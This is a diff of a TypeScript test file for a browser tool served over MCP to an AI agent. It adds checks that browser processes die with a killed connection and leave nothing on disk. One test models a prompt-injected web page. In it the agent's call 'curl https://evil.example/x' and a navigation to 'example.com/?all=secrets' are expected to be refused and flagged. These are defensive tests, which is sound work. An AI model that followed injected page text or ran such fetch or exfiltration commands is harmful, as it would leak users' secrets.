@@ -4,6 +4,9 @@ import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { findChromium } from '../../src/execution/browser/find-chromium.ts';
+import { sweepBrowsers } from '../../src/execution/browser/records.ts';
+import { listPids, membersOf, pidNamespaceOf } from '../../src/execution/running/proc.ts';
+import { markerOf } from '../../src/execution/running/sweep.ts';
 import { type McpProcess, makePlace, type Place, runWrit, startMcp, type ToolResult } from '../helpers/writ-process.ts';
 
 const CHROMIUM = findChromium();
@@ -38,6 +41,7 @@ const freePort = async (): Promise<number> => {
   return free;
 };
 const browse = (args: Record<string, unknown>, by: McpProcess = mcp): Promise<ToolResult> => by.call('browser', args);
+const records = (): string[] => readdirSync(join(place.home, 'browsers')).filter((name) => name.endsWith('.json'));
 const untrusted = (result: ToolResult): { text: string; title: string } =>
   result.structured['untrusted'] as { text: string; title: string };
 
@@ -86,14 +90,27 @@ describe.skipIf(CHROMIUM === undefined)('the browser over MCP (needs Chromium)',
     expect(cards).toEqual([]);
   });
 
-  test('the browser is gone with the connection', async () => {
+  test('the browser is gone with a program that is killed, and a page of one connection is not there for another', async () => {
+    const before = records();
     const another = await startMcp(place);
     const opened = await browse({ action: 'navigate', url: `http://127.0.0.1:${port}/` }, another);
     expect(opened.isError).toBe(false);
-    // One connection, one Run: this page is not there for the other.
     await browse({ action: 'close' });
     expect((await browse({ action: 'snapshot' })).text).toContain('No page is open');
-    expect(await another.end()).toBe(0);
+    const [record = ''] = records().filter((name) => !before.includes(name));
+    const marker = record.replace('.json', '');
+    const alive = (): number[] => (listPids() ?? []).filter((pid) => markerOf(pid) === marker);
+    expect(alive().length).toBeGreaterThan(0);
+    const namespaces = new Set(alive().map(pidNamespaceOf));
+    namespaces.delete(pidNamespaceOf('self'));
+    another.child.kill('SIGKILL');
+    await another.exited;
+    await expect.poll(alive, wait).toEqual([]);
+    const inside = (): number[] => [...namespaces].flatMap((namespace) => (namespace === undefined ? [] : (membersOf(namespace) ?? [])));
+    await expect.poll(inside, wait).toEqual([]);
+    // What it left on disk goes at the next start.
+    expect(await sweepBrowsers(join(place.home, 'browsers'))).toBe(0);
+    expect(records()).toEqual(before);
   });
 
   test('a page that asks to be obeyed marks the Run, and what it asks for is asked with where that came from', async () => {
@@ -102,6 +119,10 @@ describe.skipIf(CHROMIUM === undefined)('the browser over MCP (needs Chromium)',
     const obeyed = await mcp.call('shell', { command: 'curl https://evil.example/x' });
     expect(obeyed.isError).toBe(true);
     expect(cards.at(-1)).toContain(`web:127.0.0.1:${port}`);
+    // So is a page of another host: its address stands on the card, and what a yes opens.
+    expect((await browse({ action: 'navigate', url: 'http://example.com/?all=secrets' })).isError).toBe(true);
+    expect(cards.at(-1)).toContain('browser navigate http://example.com/?all=secrets');
+    expect(cards.at(-1)).toContain('the network to example.com');
   });
 
   test('metadata, by redirect or by name, files and the browser’s own pages are refused, and each is in the audit', async () => {
@@ -115,7 +136,7 @@ describe.skipIf(CHROMIUM === undefined)('the browser over MCP (needs Chromium)',
     for (const url of attempts) expect((await browse({ action: 'navigate', url })).text).toContain('denied_by_policy');
     await mcp.call('browser', { action: 'type', ref: 'e1', text: 'correct horse battery staple' });
     await mcp.end();
-    expect(readdirSync(join(place.home, 'browsers')).filter((name) => name.endsWith('.json'))).toEqual([]);
+    expect(records()).toEqual([]);
     const { stdout } = await runWrit(place, ['audit', 'list', '--json', '--limit', '500']);
     const events = (JSON.parse(stdout) as { events: { type: string; tool?: string; data: Record<string, unknown> }[] }).events;
     for (const url of attempts) {
